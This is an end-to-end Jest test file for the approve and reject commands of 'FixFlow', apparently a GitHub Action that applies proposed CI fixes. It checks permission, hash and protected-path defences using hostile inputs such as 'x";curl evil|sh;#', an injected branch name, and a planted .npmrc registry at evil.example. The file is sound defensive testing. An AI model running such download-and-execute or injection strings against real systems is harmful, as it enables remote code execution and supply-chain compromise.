// Approve end to end through the bundle with the DynamoDB store (SECURITY.md threats 1, 2, 3, 7). Proposals come from
// the analyze path of the bundle; each command is a new bundle process fed an issue_comment (or workflow_dispatch)
// event. The first block runs alone, since it asserts that no write at all happened; the rest run concurrently, each
// on its own PR, and only look at what belongs to that PR.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import {
  ORIGINAL,
  PATCHED,
  SLOW,
  alterAndRehash,
  alterItem,
  bodyOf,
  commentAndRun,
  dispatchRun,
  commentEvent,
  fixBranches,
  fixPulls,
  out,
  replies,
  runBundle,
  seedPrFailure,
  seedPushFailure,
  startWorld,
  stored,
  user,
  writes,
  type Seeded,
  type World
} from './approve-harness.js'

const FIX_TOKEN = 'ghs_fixflow_app_installation_token'
/** A personal access token as github-token: FixFlow's comments are then a user's, not a bot's. */
const PAT = 'ghp_maintainers_personal_access_token'

let w: World
beforeAll(async () => {
  w = await startWorld({ table: true })
  for (const [login, role] of [
    ['wendy', 'write'],
    ['mia', 'maintain'],
    ['rita', 'read'],
    ['tom', 'triage'],
    ['flaky', 'write']
  ] as const)
    w.gh.setPermission(login, role)
  w.gh.addToken(FIX_TOKEN, { login: 'fixflow-app[bot]', type: 'Bot' })
  w.gh.addToken(PAT, { login: 'pat-owner', type: 'User' })
}, SLOW)
afterAll(async () => {
  await w?.close()
})

/** Nothing of this proposal moved: no branch, no PR, still pending. */
async function untouched(s: Pick<Seeded, 'id' | 'thread'>): Promise<void> {
  expect(w.gh.branchSha(`fixflow/${s.id}`)).toBeUndefined()
  expect(fixPulls(w, s.id)).toHaveLength(0)
  expect((await stored(w, s))?.status).toBe('pending')
  expect(w.gh.count('POST', /\/git\/refs$/)).toBe(
    w.gh.requests.filter(
      r => r.method === 'POST' && r.path.endsWith('/git/refs') && !JSON.stringify(r.body).includes(s.id)
    ).length
  )
}

describe('approve: comments that must start nothing (run alone: no write request at all)', () => {
  let s: Seeded
  beforeAll(async () => {
    s = await seedPrFailure(w)
  }, SLOW)

  it(
    'a quoted command (> /fixflow approve) does nothing',
    async () => {
      const from = w.gh.requests.length
      const { run } = await commentAndRun(
        w,
        s.pr.number,
        `> /fixflow approve ${s.id}\n\nDid you mean this?`,
        'wendy'
      )
      expect(run.code).toBe(0)
      expect(run.outputs.status).toBe('none')
      expect(writes(w, from)).toEqual([])
      await untouched(s)
    },
    SLOW
  )

  it(
    'an edited comment does nothing, even with a valid command from a writer',
    async () => {
      const c = w.gh.addComment(s.thread, `/fixflow approve ${s.id}`, user('wendy'))
      const from = w.gh.requests.length
      const run = await runBundle(w, {
        eventName: 'issue_comment',
        event: commentEvent(w, s.pr.number, c, 'edited')
      })
      expect(run.code).toBe(0)
      expect(run.outputs.status).toBe('none')
      expect(writes(w, from)).toEqual([])
      expect(w.gh.reactionsOn(c.id)).toEqual([])
      await untouched(s)
    },
    SLOW
  )

  it(
    "a bot's comment (FixFlow's own or another bot's) does nothing",
    async () => {
      for (const bot of [w.gh.bot, { login: 'renovate[bot]', type: 'Bot' as const }]) {
        w.gh.setPermission(bot.login, 'admin')
        const c = w.gh.addComment(s.thread, `/fixflow approve ${s.id}`, bot)
        const from = w.gh.requests.length
        const run = await runBundle(w, { eventName: 'issue_comment', event: commentEvent(w, s.pr.number, c) })
        expect(run.code).toBe(0)
        expect(run.outputs.status).toBe('none')
        expect(writes(w, from)).toEqual([])
      }
      await untouched(s)
    },
    SLOW
  )

  it(
    '`/fixflow approve x";curl evil|sh;#` answers "not a proposal id" and starts nothing',
    async () => {
      const from = w.gh.requests.length
      const dynamoFrom = w.dynamo!.requests.length
      const { run, comment } = await commentAndRun(
        w,
        s.pr.number,
        '/fixflow approve x";curl evil|sh;#',
        'wendy'
      )
      expect(run.code).toBe(0)
      expect(run.outputs.status).toBe('refused')
      // Only the reactions and the one reply were written; the store was not even read for that id.
      expect(writes(w, from).sort()).toEqual(
        [
          `POST /repos/${w.gh.fullName}/issues/comments/${comment.id}/reactions`,
          `POST /repos/${w.gh.fullName}/issues/comments/${comment.id}/reactions`,
          `POST /repos/${w.gh.fullName}/issues/${s.pr.number}/comments`
        ].sort()
      )
      expect(w.dynamo!.requests.slice(dynamoFrom).map(r => r.op)).toEqual([])
      const reply = replies(w, s.thread).find(r => r.body.includes(`fixflow:reply:comment-${comment.id}`))
      expect(reply?.body).toMatch(/is not a FixFlow proposal id/)
      expect(w.gh.reactionsOn(comment.id)).toEqual(['eyes', '-1'])
      expect(fixBranches(w)).toEqual([])
      expect(w.gh.pulls.size).toBe(s.pr.number)
      expect(w.gh.dispatches).toEqual([])
      await untouched(s)
    },
    SLOW
  )
})

/** FixFlow's reply to one command comment. */
const replyTo = (s: Pick<Seeded, 'thread'>, commentId: number): string =>
  replies(w, s.thread).find(r => r.body.includes(`fixflow:reply:comment-${commentId}`))?.body ?? ''

describe('approve: each scenario on its own PR, run concurrently', () => {
  it.concurrent(
    'a writer approves: patched tree, parent = proposal commit, PR base = PR head branch, label, approved + pr_url, 👀 then 🚀, reply with the link; CI dispatched',
    async () => {
      const s = await seedPrFailure(w)
      const { run, comment } = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy')
      expect(run.code).toBe(0)
      expect(run.outputs.status).toBe('approved')
      const branch = `fixflow/${s.id}`
      const tip = w.gh.branchSha(branch)
      expect(tip).toBeDefined()
      expect(w.gh.commitParents(tip!)).toEqual([s.head])
      expect(w.gh.readFileAt(branch, 'requirements.txt')).toBe(PATCHED)
      expect(w.gh.readFileAt(s.head, 'requirements.txt')).toBe(ORIGINAL)
      // Exactly the proposal's files changed against the proposal's commit.
      const before = new Map(w.gh.treeAt(s.head).map(e => [e.path, e.sha]))
      const after = w.gh.treeAt(branch)
      expect(after.filter(e => before.get(e.path) !== e.sha).map(e => e.path)).toEqual(['requirements.txt'])
      expect(after.map(e => e.path).sort()).toEqual([...before.keys()].sort())
      const message = w.gh.commit(tip!)?.message ?? ''
      expect(message).toMatch(/^fix\(deps\): add missing pandas dependency\n/)
      expect(message).toContain(`FixFlow-Proposal: ${s.id}`)
      expect(message).toContain('Approved-by: wendy')

      const prs = fixPulls(w, s.id)
      expect(prs).toHaveLength(1)
      const fix = prs[0]!
      expect(fix.base_ref).toBe(s.pr.head_ref)
      expect(fix.head_sha).toBe(tip)
      expect(fix.body).toContain('@wendy')
      expect(fix.body).toContain(`actions/runs/${s.run.id}`)
      expect(w.gh.labels.get(fix.number)).toEqual(['fixflow'])
      const prUrl = `https://github.com/${w.gh.fullName}/pull/${fix.number}`
      expect(run.outputs['pr-url']).toBe(prUrl)
      expect(run.outputs['pr-number']).toBe(String(fix.number))
      expect(run.outputs.branch).toBe(branch)
      expect(await stored(w, s)).toMatchObject({ status: 'approved', pr_url: prUrl, approved_by: 'wendy' })

      expect(w.gh.reactionsOn(comment.id)).toEqual(['eyes', 'rocket'])
      const rs = replies(w, s.thread)
      expect(rs).toHaveLength(1)
      expect(rs[0]!.body).toContain(prUrl)
      expect(rs[0]!.body).toContain('@wendy')
      // The proposal comment now says approved, with the link, and offers no approve command any more.
      const proposal = bodyOf(w, s.comment.id)
      expect(proposal).toContain('Approved by `wendy`')
      expect(proposal).toContain(prUrl)
      expect(proposal).not.toContain('/fixflow approve')
      // No fix token: PRs opened with the job token start no CI, so the failed workflow is dispatched on the branch.
      expect(w.gh.dispatches).toContainEqual({ workflow_id: s.run.workflow_id, ref: branch })
      expect(rs[0]!.body).toContain('workflow_dispatch')
    },
    SLOW
  )

  it.concurrent(
    'with fix-token: blobs, tree, commit, branch, PR and label are made with that token; replies with the job token',
    async () => {
      const s = await seedPrFailure(w)
      const { run } = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'mia', {
        inputs: { 'fix-token': FIX_TOKEN }
      })
      expect(run.code).toBe(0)
      expect(run.outputs.status).toBe('approved')
      const fix = fixPulls(w, s.id)
      expect(fix).toHaveLength(1)
      expect(fix[0]!.user.login).toBe('fixflow-app[bot]')
      const refPost = w.gh.requests.filter(
        r => r.method === 'POST' && r.path.endsWith('/git/refs') && JSON.stringify(r.body).includes(s.id)
      )
      expect(refPost.map(r => r.auth)).toEqual([`token ${FIX_TOKEN}`])
      const pullPost = w.gh.requests.filter(
        r =>
          r.method === 'POST' &&
          r.path.endsWith('/pulls') &&
          JSON.stringify(r.body).includes(`fixflow/${s.id}`)
      )
      expect(pullPost.map(r => r.auth)).toEqual([`token ${FIX_TOKEN}`])
      const labelPost = w.gh.requests.filter(
        r => r.method === 'POST' && r.path.endsWith(`/issues/${fix[0]!.number}/labels`)
      )
      expect(labelPost.map(r => r.auth)).toEqual([`token ${FIX_TOKEN}`])
      // The commit's parent chain is right whoever made it.
      expect(w.gh.commitParents(w.gh.branchSha(`fixflow/${s.id}`)!)).toEqual([s.head])
      // No dispatch needed: CI starts by itself on a PR opened with an App token or PAT.
      expect(w.gh.dispatches.filter(d => d.ref === `fixflow/${s.id}`)).toEqual([])
      const reply = replies(w, s.thread)
      expect(reply).toHaveLength(1)
      expect(reply[0]!.user.login).toBe(w.gh.bot.login)
      expect(reply[0]!.body).toMatch(/CI starts on it by itself/)
      // The fix token is masked (add-mask) and never printed otherwise.
      expect(
        out(run)
          .split('\n')
          .filter(l => !l.startsWith('::add-mask::'))
          .join('\n')
      ).not.toContain(FIX_TOKEN)
    },
    SLOW
  )

  it.concurrent(
    'without fix-token and no workflow_dispatch on the failed workflow: the reply says CI will not start and how to enable it',
    async () => {
      const wf = w.gh.addWorkflow({ path: '.github/workflows/nodispatch.yml', dispatch: false })
      const s = await seedPrFailure(w, { workflowId: wf.id })
      const { run } = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy')
      expect(run.code).toBe(0)
      expect(run.outputs.status).toBe('approved')
      expect(fixPulls(w, s.id)).toHaveLength(1)
      expect(w.gh.dispatches.filter(d => d.ref === `fixflow/${s.id}`)).toEqual([])
      const reply = replies(w, s.thread)[0]?.body ?? ''
      expect(reply).toMatch(/CI will not start by itself/)
      expect(reply).toContain('fix-token')
      expect(reply).toContain('workflow_dispatch')
    },
    SLOW
  )

  for (const [login, role] of [
    ['rita', 'read'],
    ['tom', 'triage']
  ] as const) {
    it.concurrent(
      `a ${role} user is refused: the reply says write access is needed; no branch, no PR`,
      async () => {
        const s = await seedPrFailure(w)
        const { run, comment } = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, login)
        expect(run.code).toBe(0)
        expect(run.outputs.status).toBe('refused')
        const reply = replies(w, s.thread)
        expect(reply).toHaveLength(1)
        expect(reply[0]!.body).toMatch(/only people with write, maintain or admin access/)
        expect(reply[0]!.body).toContain(`\`${role}\``)
        expect(w.gh.reactionsOn(comment.id)).toEqual(['eyes', '-1'])
        await untouched(s)
      },
      SLOW
    )
  }

  it.concurrent(
    'the permission API answering 5xx throughout (after retries) means refuse',
    async () => {
      const s = await seedPrFailure(w)
      w.gh.fail({ method: 'GET', path: /\/collaborators\/flaky\/permission$/, status: 502, times: Infinity })
      const { run } = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'flaky')
      expect(run.code).toBe(0)
      expect(run.outputs.status).toBe('refused')
      expect(w.gh.count('GET', /\/collaborators\/flaky\/permission$/)).toBeGreaterThan(1)
      expect(replies(w, s.thread)[0]?.body).toMatch(/could not check your permission/)
      await untouched(s)
    },
    SLOW
  )

  it.concurrent(
    'a re-run of the approve job (the same event again) changes nothing',
    async () => {
      const s = await seedPrFailure(w)
      const first = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy')
      expect(first.run.outputs.status).toBe('approved')
      const snapshot = {
        comments: w.gh.commentsOn(s.thread).map(c => ({ id: c.id, body: c.body, updated_at: c.updated_at })),
        reactions: w.gh.reactionsOn(first.comment.id),
        branch: w.gh.branchSha(`fixflow/${s.id}`),
        pulls: fixPulls(w, s.id).map(p => p.number),
        item: await stored(w, s),
        dispatches: w.gh.dispatches.filter(d => d.ref === `fixflow/${s.id}`).length
      }
      const again = await runBundle(w, {
        eventName: 'issue_comment',
        event: first.event,
        runId: first.runId,
        env: { GITHUB_RUN_ATTEMPT: '2' }
      })
      expect(again.code).toBe(0)
      expect(again.outputs.status).toBe('none')
      expect({
        comments: w.gh.commentsOn(s.thread).map(c => ({ id: c.id, body: c.body, updated_at: c.updated_at })),
        reactions: w.gh.reactionsOn(first.comment.id),
        branch: w.gh.branchSha(`fixflow/${s.id}`),
        pulls: fixPulls(w, s.id).map(p => p.number),
        item: await stored(w, s),
        dispatches: w.gh.dispatches.filter(d => d.ref === `fixflow/${s.id}`).length
      }).toEqual(snapshot)
    },
    SLOW
  )

  it.concurrent(
    'once the fix PR is open, later failures only warn: dispatch 403 and a refused comment update leave it approved with pr_url; the reply says CI was not dispatched',
    async () => {
      const wf = w.gh.addWorkflow({ path: '.github/workflows/forbidden.yml', dispatch: true })
      const s = await seedPrFailure(w, { workflowId: wf.id })
      w.gh.fail({
        method: 'POST',
        path: new RegExp(`/actions/workflows/${wf.id}/dispatches$`),
        status: 403,
        times: Infinity,
        body: { message: 'Resource not accessible by integration' }
      })
      w.gh.fail({
        method: 'PATCH',
        path: new RegExp(`/issues/comments/${s.comment.id}$`),
        status: 403,
        times: Infinity
      })
      const { run, comment } = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy')
      expect(run.code).toBe(0)
      expect(run.outputs.status).toBe('approved')
      const fix = fixPulls(w, s.id)
      expect(fix).toHaveLength(1)
      const prUrl = `https://github.com/${w.gh.fullName}/pull/${fix[0]!.number}`
      expect(await stored(w, s)).toMatchObject({ status: 'approved', pr_url: prUrl, approved_by: 'wendy' })
      expect(w.gh.dispatches.filter(d => d.ref === `fixflow/${s.id}`)).toEqual([])
      const texts = replies(w, s.thread).map(r => r.body)
      expect(texts).toHaveLength(1)
      expect(texts[0]).toContain(prUrl)
      expect(texts[0]).toMatch(/CI was not dispatched/)
      expect(texts[0]).not.toMatch(/could not apply|still pending/)
      expect(w.gh.reactionsOn(comment.id)).toEqual(['eyes', 'rocket'])
      expect(out(run)).toMatch(/could not dispatch the failed workflow/)
      expect(out(run)).toMatch(/could not update the proposal comment/)
    },
    SLOW
  )

  it.concurrent(
    'an existing fixflow/<id> branch is used only when it holds exactly this fix on the base: other content (with or without a PR of its own) is refused',
    async () => {
      const [bare, withPr, good] = await Promise.all([seedPrFailure(w), seedPrFailure(w), seedPrFailure(w)])
      // Someone with push access made the branches first.
      const planted = w.gh.seedCommit(
        { 'requirements.txt': ORIGINAL + 'evil-package==6.6.6\n' },
        bare.head,
        'planted'
      )
      w.gh.setBranch(`fixflow/${bare.id}`, planted)
      const plantedWithPr = w.gh.seedCommit(
        { 'requirements.txt': PATCHED, 'weather_report/evil.py': 'import os\n' },
        withPr.head,
        'planted'
      )
      const squatter = w.gh.addPull({
        head_sha: plantedWithPr,
        head_ref: `fixflow/${withPr.id}`,
        base_ref: withPr.pr.head_ref
      })
      // Left by an attempt that stopped before its PR: exactly the fix, on the proposal's commit.
      const earlier = w.gh.seedCommit({ 'requirements.txt': PATCHED }, good.head, 'earlier attempt')
      w.gh.setBranch(`fixflow/${good.id}`, earlier)

      const [a, b, c] = await Promise.all(
        [bare, withPr, good].map(s => commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy'))
      )
      for (const [s, r, tip] of [
        [bare, a!, planted],
        [withPr, b!, plantedWithPr]
      ] as const) {
        expect(r.run.code).toBe(0)
        expect(r.run.outputs.status).toBe('refused')
        expect(replyTo(s, r.comment.id)).toMatch(/already exists and does not hold proposal/)
        expect(w.gh.reactionsOn(r.comment.id)).toEqual(['eyes', '-1'])
        expect(w.gh.branchSha(`fixflow/${s.id}`)).toBe(tip)
        expect(await stored(w, s)).toMatchObject({ status: 'pending' })
        expect((await stored(w, s))?.pr_url).toBeUndefined()
      }
      expect(fixPulls(w, bare.id)).toHaveLength(0)
      expect(fixPulls(w, withPr.id).map(p => p.number)).toEqual([squatter.number])

      expect(c!.run.code).toBe(0)
      expect(c!.run.outputs.status).toBe('approved')
      const fix = fixPulls(w, good.id)
      expect(fix).toHaveLength(1)
      expect(fix[0]!.head_sha).toBe(earlier)
      expect(w.gh.branchSha(`fixflow/${good.id}`)).toBe(earlier)
    },
    SLOW
  )

  it.concurrent(
    'a fork PR whose stored from_fork was flipped: refused by the hash; re-hashed as well, the fork is still seen on the PR itself',
    async () => {
      const s = await seedPrFailure(w, { fork: true })
      await alterItem(w, s.id, 'from_fork', false)
      const first = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy')
      expect(first.run.code).toBe(0)
      expect(first.run.outputs.status).toBe('refused')
      expect(replyTo(s, first.comment.id)).toMatch(/does not match its hash/)

      await alterAndRehash(w, s.id, { from_fork: false })
      const second = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy')
      expect(second.run.code).toBe(0)
      const reply = replyTo(s, second.comment.id)
      expect(reply).toMatch(/comes from a fork/)
      expect(reply).toContain('git apply fix.patch')
      expect(
        w.gh.requests.filter(
          r => r.method === 'POST' && r.path.endsWith('/git/refs') && JSON.stringify(r.body).includes(s.id)
        )
      ).toEqual([])
      await untouched(s)
    },
    SLOW
  )

  it.concurrent(
    'a stored patch re-hashed to also write .npmrc, with no protected_hits: built-in protected paths are checked again, a writer is refused',
    async () => {
      const s = await seedPrFailure(w)
      const item = (await stored(w, s))!
      expect(item.protected_hits).toBeUndefined()
      await alterAndRehash(w, s.id, {
        proposed_patch: [
          ...item.proposed_patch,
          { file_path: '.npmrc', original: '', replacement: 'registry=https://evil.example/\n' }
        ],
        file_shas: { ...item.file_shas, '.npmrc': '' }
      })
      const { run, comment } = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy')
      expect(run.code).toBe(0)
      expect(run.outputs.status).toBe('refused')
      expect(replyTo(s, comment.id)).toMatch(/touches protected paths \(`\.npmrc`\)/)
      await untouched(s)
    },
    SLOW
  )

  it.concurrent(
    'with a PAT as github-token (FixFlow replies as a user): a re-run of the approve job changes nothing',
    async () => {
      const s = await seedPrFailure(w)
      const inputs = { 'github-token': PAT }
      const first = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy', { inputs })
      expect(first.run.outputs.status).toBe('approved')
      const ours = w.gh.commentsOn(s.thread).filter(c => c.body.startsWith('<!-- fixflow:reply:'))
      expect(ours.map(c => c.user.login)).toEqual(['pat-owner'])
      const snapshot = async (): Promise<unknown> => ({
        comments: w.gh.commentsOn(s.thread).map(c => ({ id: c.id, body: c.body, updated_at: c.updated_at })),
        reactions: w.gh.reactionsOn(first.comment.id),
        branch: w.gh.branchSha(`fixflow/${s.id}`),
        pulls: fixPulls(w, s.id).map(p => p.number),
        item: await stored(w, s)
      })
      const before = await snapshot()
      const again = await runBundle(w, {
        eventName: 'issue_comment',
        event: first.event,
        runId: first.runId,
        inputs,
        env: { GITHUB_RUN_ATTEMPT: '2' }
      })
      expect(again.code).toBe(0)
      expect(again.outputs.status).toBe('none')
      expect(await snapshot()).toEqual(before)
    },
    SLOW
  )

  it.concurrent(
    'head moved and a touched file changed there: refused as outdated, no branch',
    async () => {
      const s = await seedPrFailure(w)
      const moved = w.gh.seedCommit({ 'requirements.txt': ORIGINAL + 'scipy==1.14.1\n' }, s.head, 'bump deps')
      w.gh.pushToPull(s.pr.number, moved)
      const { run } = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy')
      expect(run.code).toBe(0)
      expect(run.outputs.status).toBe('refused')
      const reply = replies(w, s.thread)[0]?.body ?? ''
      expect(reply).toMatch(/is outdated/)
      expect(reply).toContain('`requirements.txt`')
      expect(reply).toMatch(/Re-run the failed jobs/)
      await untouched(s)
    },
    SLOW
  )

  it.concurrent(
    'head moved, touched files unchanged there: applied on the new head (parent = new head)',
    async () => {
      const s = await seedPrFailure(w)
      const moved = w.gh.seedCommit({ 'README.md': 'docs only\n' }, s.head, 'docs')
      w.gh.pushToPull(s.pr.number, moved)
      const { run } = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy')
      expect(run.code).toBe(0)
      expect(run.outputs.status).toBe('approved')
      const tip = w.gh.branchSha(`fixflow/${s.id}`)!
      expect(w.gh.commitParents(tip)).toEqual([moved])
      expect(w.gh.readFileAt(tip, 'requirements.txt')).toBe(PATCHED)
      expect(w.gh.readFileAt(tip, 'README.md')).toBe('docs only\n')
      expect(fixPulls(w, s.id)).toHaveLength(1)
    },
    SLOW
  )

  it.concurrent(
    'the stored patch altered after it was shown (hash mismatch): refused, nothing applied',
    async () => {
      const s = await seedPrFailure(w)
      await alterItem(w, s.id, 'proposed_patch', [
        {
          file_path: 'requirements.txt',
          original: 'numpy==2.1.3\n',
          replacement: 'numpy==2.1.3\nevil-package==6.6.6\n'
        }
      ])
      const { run } = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy')
      expect(run.code).toBe(0)
      expect(run.outputs.status).toBe('refused')
      expect(replies(w, s.thread)[0]?.body).toMatch(/does not match its hash/)
      await untouched(s)
    },
    SLOW
  )

  it.concurrent(
    'an id from another PR is refused on this PR',
    async () => {
      const [a, b] = await Promise.all([seedPrFailure(w), seedPrFailure(w)])
      const { run } = await commentAndRun(w, b.pr.number, `/fixflow approve ${a.id}`, 'wendy')
      expect(run.code).toBe(0)
      expect(run.outputs.status).toBe('refused')
      expect(replies(w, b.thread)[0]?.body).toMatch(/belongs to another pull request or commit/)
      expect(replies(w, a.thread)).toEqual([])
      await untouched(a)
      await untouched(b)
    },
    SLOW
  )

  it.concurrent(
    'a fork PR: no branch in the base repository; the reply offers the patch',
    async () => {
      const s = await seedPrFailure(w, { fork: true })
      expect((await stored(w, s))?.from_fork).toBe(true)
      const { run } = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy')
      expect(run.code).toBe(0)
      const reply = replies(w, s.thread)[0]?.body ?? ''
      expect(reply).toMatch(/comes from a fork/)
      expect(reply).toContain('git apply fix.patch')
      expect(reply).toContain('+pandas==2.2.3')
      // Nothing of the fork's commit reached the base repository: no blob, tree, commit or ref was written for it.
      expect(
        w.gh.requests.filter(
          r => r.method === 'POST' && r.path.endsWith('/git/refs') && JSON.stringify(r.body).includes(s.id)
        )
      ).toEqual([])
      expect(
        Object.entries(w.gh.refs()).filter(
          ([, sha]) => sha === s.head || w.gh.commitParents(sha).includes(s.head)
        )
      ).toEqual([])
      await untouched(s)
    },
    SLOW
  )

  it.concurrent(
    'reject: status rejected, the proposal comment collapsed, a reply',
    async () => {
      const s = await seedPrFailure(w)
      const { run, comment } = await commentAndRun(
        w,
        s.pr.number,
        `/fixflow reject ${s.id} pandas is not allowed here`,
        'wendy'
      )
      expect(run.code).toBe(0)
      expect(run.outputs.status).toBe('rejected')
      expect(await stored(w, s)).toMatchObject({
        status: 'rejected',
        outcome_note: 'Rejected by wendy: pandas is not allowed here'
      })
      const proposal = bodyOf(w, s.comment.id)
      expect(proposal).toContain('rejected proposal')
      expect(proposal).toContain('<details><summary>The proposal</summary>')
      // The approve command is no longer shown.
      expect(proposal).not.toContain('**To apply it**')
      expect(replies(w, s.thread)[0]?.body).toMatch(/is rejected; nothing will be applied/)
      expect(w.gh.reactionsOn(comment.id)).toEqual(['eyes', '+1'])
      // A later approve of the rejected proposal is refused.
      const late = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy')
      expect(late.run.outputs.status).toBe('refused')
      expect(w.gh.branchSha(`fixflow/${s.id}`)).toBeUndefined()
    },
    SLOW
  )

  it.concurrent(
    'a PR branch named `zzz";echo${IFS}hi;#` is handled as data: stored and sent as is, the fix branch is generated',
    async () => {
      const name = 'zzz";echo${IFS}hi;#'
      const s = await seedPrFailure(w, { headRef: name })
      expect((await stored(w, s))?.branch).toBe(name)
      const { run } = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy')
      // The branch FixFlow creates is always fixflow/<id>; the PR's own branch name only travels as a JSON value.
      expect(w.gh.branchSha(`fixflow/${s.id}`)).toBeDefined()
      const pullPosts = w.gh.requests.filter(
        r =>
          r.method === 'POST' &&
          r.path.endsWith('/pulls') &&
          JSON.stringify(r.body).includes(`fixflow/${s.id}`)
      )
      expect(pullPosts.map(r => (r.body as { base?: string }).base)).toEqual([name])
      expect(out(run)).not.toMatch(/^hi$/m)
      // On GitHub the PR opens on that base. The loopback GitHub refuses such a base name (its git plumbing takes only
      // plain ref names), so there FixFlow must say in the thread that it could not open the PR, leave the proposal
      // pending for a retry, and fail the job.
      const opened = run.outputs.status === 'approved'
      const seen = {
        code: run.code === 0,
        base: fixPulls(w, s.id)[0]?.base_ref,
        status: (await stored(w, s))?.status,
        said: /could not apply proposal/.test(
          replies(w, s.thread)
            .map(r => r.body)
            .join('\n')
        )
      }
      expect(seen).toEqual(
        opened
          ? { code: true, base: name, status: 'approved', said: false }
          : { code: false, base: undefined, status: 'pending', said: true }
      )
    },
    SLOW
  )

  it.concurrent(
    'workflow_dispatch approve of a commit-thread proposal (push, no PR): PR onto the pushed branch, reply on the commit',
    async () => {
      const s = await seedPushFailure(w, 'release/2.x')
      const proposal = bodyOf(w, s.comment.id)
      expect(proposal).toContain(`gh workflow run fixflow.yml -f command=approve -f failure-id=${s.id}`)
      const run = await runBundle(
        w,
        dispatchRun(w, 'wendy', { command: 'approve', 'failure-id': s.id, reason: '' })
      )
      expect(run.code).toBe(0)
      expect(run.outputs.status).toBe('approved')
      const tip = w.gh.branchSha(`fixflow/${s.id}`)!
      expect(w.gh.commitParents(tip)).toEqual([s.head])
      expect(w.gh.readFileAt(tip, 'requirements.txt')).toBe(PATCHED)
      const fix = fixPulls(w, s.id)
      expect(fix).toHaveLength(1)
      expect(fix[0]!.base_ref).toBe('release/2.x')
      expect(await stored(w, s)).toMatchObject({ status: 'approved', approved_by: 'wendy' })
      const reply = replies(w, s.thread)
      expect(reply).toHaveLength(1)
      expect(reply[0]!.body).toContain(fix[0]!.number.toString())
      expect(bodyOf(w, s.comment.id)).toContain('Approved by `wendy`')
    },
    SLOW
  )

  it.concurrent(
    'workflow_dispatch by a reader is refused',
    async () => {
      const s = await seedPushFailure(w, 'release/3.x')
      const run = await runBundle(w, dispatchRun(w, 'rita', { command: 'approve', 'failure-id': s.id }))
      expect(run.outputs.status).toBe('refused')
      expect(replies(w, s.thread)[0]?.body).toMatch(/only people with write/)
      await untouched(s)
    },
    SLOW
  )
})

describe('approve: protected paths need a separate, explicit approval', () => {
  it(
    'a write user is refused, a maintainer without the id is refused, a maintainer naming the id applies it',
    async () => {
      // requirements.txt made protected by the input: the seed proposal then touches a protected path.
      const s = await seedPrFailure(w, { inputs: { 'protected-paths': 'requirements.txt' } })
      expect((await stored(w, s))?.protected_hits).toEqual(['requirements.txt'])
      expect(bodyOf(w, s.comment.id)).toContain('only an admin or maintainer')

      const byWriter = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'wendy')
      expect(byWriter.run.code).toBe(0)
      const noId = await commentAndRun(w, s.pr.number, '/fixflow approve', 'mia')
      expect(noId.run.code).toBe(0)
      expect(fixPulls(w, s.id)).toHaveLength(0)
      expect((await stored(w, s))?.status).toBe('pending')
      const texts = replies(w, s.thread).map(c => c.body)
      expect(texts.filter(t => t.includes('touches protected paths'))).toHaveLength(2)

      const named = await commentAndRun(w, s.pr.number, `/fixflow approve ${s.id}`, 'mia')
      expect(named.run.code).toBe(0)
      expect(fixPulls(w, s.id)).toHaveLength(1)
      expect((await stored(w, s))?.status).toBe('approved')
    },
    SLOW
  )
})
